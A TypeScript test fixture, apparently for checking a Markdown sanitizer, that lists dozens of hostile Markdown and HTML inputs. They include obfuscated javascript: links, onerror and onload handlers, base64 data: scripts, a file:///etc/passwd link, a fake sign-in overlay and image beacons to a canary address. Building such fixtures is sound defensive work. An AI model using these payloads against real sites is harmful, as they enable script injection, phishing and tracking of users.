/**
 * Ways to run a script, to make a browser call home or to lead someone astray, in Markdown's own words. Whoever
 * succeeds calls `canary`, an address that counts its visitors, or writes `OWNED` to the console.
 */
export function hostileMarkdown(canary: string): string[] {
  const run = `console.log('OWNED');fetch('${canary}/run')`
  const host = canary.replace(/^\w+:\/\//, '')
  const script = `javascript:${run}`
  return [
    // Pictures
    `![x](${canary}/picture.png)`,
    `![x](//${host}/relative.png)`,
    `![x](/picture-of-the-page-itself.png)`,
    `![x][picture]\n\n[picture]: ${canary}/reference.png`,
    `[![x](${canary}/inside-a-link.png)](https://example.com)`,
    `![x](${canary}/title.png "onerror=${run}")`,
    `![x" onerror="${run}](${canary}/alt.png)`,
    `![x](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`).toString('base64')})`,
    `| a |\n| - |\n| ![x](${canary}/cell.png) |`,
    `# ![x](${canary}/heading.png)`,
    `- [ ] ![x](${canary}/task.png)`,
    `x[^1]\n\n[^1]: ![x](${canary}/footnote.png)`,
    // Links
    `[x](${script})`,
    `[x](JaVaScRiPt:${run})`,
    `[x](&#106;avascript:${run})`,
    `[x](java&#x09;script:${run})`,
    `[x](java\\script:${run})`,
    `[x](<java\nscript:${run}>)`,
    `[x](\u0001javascript:${run})`,
    `[x]( javascript&colon;${run})`,
    `<javascript:${run}>`,
    `[x][link]\n\n[link]: ${script}`,
    `[x](vbscript:msgbox)`,
    `[x](data:text/html,<script>${run}</script>)`,
    `[x](data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString('base64')})`,
    `[x](blob:${canary}/blob)`,
    `[x](file:///etc/passwd)`,
    `[x](ftp://${host}/file)`,
    `[x](irc://${host}/channel)`,
    `[x](xmpp:someone@example.com)`,
    `[x](tel:+15550142)`,
    `[x](view-source:${canary})`,
    `[x](filesystem:${canary}/temporary/x)`,
    `[x](intent://scan/#Intent;scheme=x;end)`,
    `[x](about:blank)`,
    `[x](chrome://settings)`,
    `[x](//${host}/no-protocol)`,
    `[x](\\\\${host}\\share)`,
    `[x](/app/accounts/new)`,
    `[x](?override=accounts@${canary})`,
    `[x](#content)`,
    `[x](https://example.com "onmouseover=${run}")`,
    `[x](https://example.com" onmouseover="${run})`,
    `<https://example.com/"onmouseover="${run}>`,
    `[a](https://example.com\`onclick=${run}\`)`,
    // Raw HTML inside of Markdown
    `a <img src=x onerror="${run}"> b`,
    `**<img src="${canary}/strong.png">**`,
    `| <img src=x onerror="${run}"> |\n| - |\n| <script>${run}</script> |`,
    `<details open ontoggle="${run}">\n\n# x\n\n</details>`,
    `<a href="${script}">\n\n**x**\n\n</a>`,
    `<style>\n@import '${canary}/style.css';\n</style>`,
    `<form action="${canary}/form"><input name="body" autofocus onfocus="${run}"></form>`,
    `<div id="content" class="x" style="position:fixed;inset:0;background:url(${canary}/overlay.png)">\n\nSign in again\n\n</div>`,
    `<!--><img src=x onerror="${run}">-->`,
    `<![CDATA[<img src=x onerror="${run}">]]>`,
    `<?x ><img src=x onerror="${run}">?>`,
    `<svg><style><img src=x onerror="${run}"></style></svg>`,
    // Code and the rest
    `\`\`\`html\n<script>${run}</script>\n\`\`\``,
    `\`\`\`"><img/src=x/onerror=${run}>\nx\n\`\`\``,
    `\`<img src=x onerror="${run}">\``,
    `    <script>${run}</script>`,
    `[^x]: <script>${run}</script>\n\nx[^x]`,
    `| a |\n| :-"onmouseover=${run} |\n| x |`,
    `[x]: ${canary} "<script>${run}</script>"\n\n[x]`,
  ]
}
